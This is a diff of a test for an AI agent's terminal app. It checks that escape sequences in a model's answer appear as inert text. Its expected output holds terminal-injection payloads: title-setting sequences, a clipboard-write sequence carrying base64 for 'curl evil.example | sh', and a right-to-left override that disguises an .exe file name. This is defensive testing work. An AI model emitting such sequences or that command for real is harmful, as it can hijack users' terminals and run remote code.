@@ -58,12 +58,15 @@ describe.skipIf(!tmux)('terminal app: the model\'s escapes stay on screen as tex
       { finish: 'stop', usage },
     ]))
     const terminal = await openApp(home, cwd)
-    // Ctrl-O before Enter: the step prints with its reasoning shown, drawn the same way. It is
-    // pressed once the typed text shows, so the app is known to be reading keys by then.
-    terminal.type('answer with escapes')
-    await terminal.waitFor(screen => screen.includes('answer with escapes'), { what: 'the typed text' })
+    // Ctrl-O first, on an empty input: the step prints with its reasoning shown, drawn the same
+    // way. A key typed and taken back first proves the app reads keys (raw mode) by then: the box
+    // shows it after its prompt, which the terminal's own echo would not do.
+    terminal.type('x')
+    await terminal.waitFor(/│ ›\s+x\s+│/, { what: 'the typed key in the input box' })
+    terminal.keys('BSpace')
+    await terminal.waitFor('Ask dsh to do something', { what: 'the empty input box' })
     terminal.keys('C-o')
-    terminal.keys('Enter')
+    await send(terminal, 'answer with escapes')
     const history = await terminal.waitFor(/── 1 step · /, { what: 'the turn summary', history: true })
     // The answer wraps at 80 columns: its rows read as one line.
     expect(history.replace(/\n/g, ' ')).toContain('Here it is.␛]0;pwned-answer␇ bold ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇ report<U+202E>fdp.exe ␛]2;pwned-code␇')
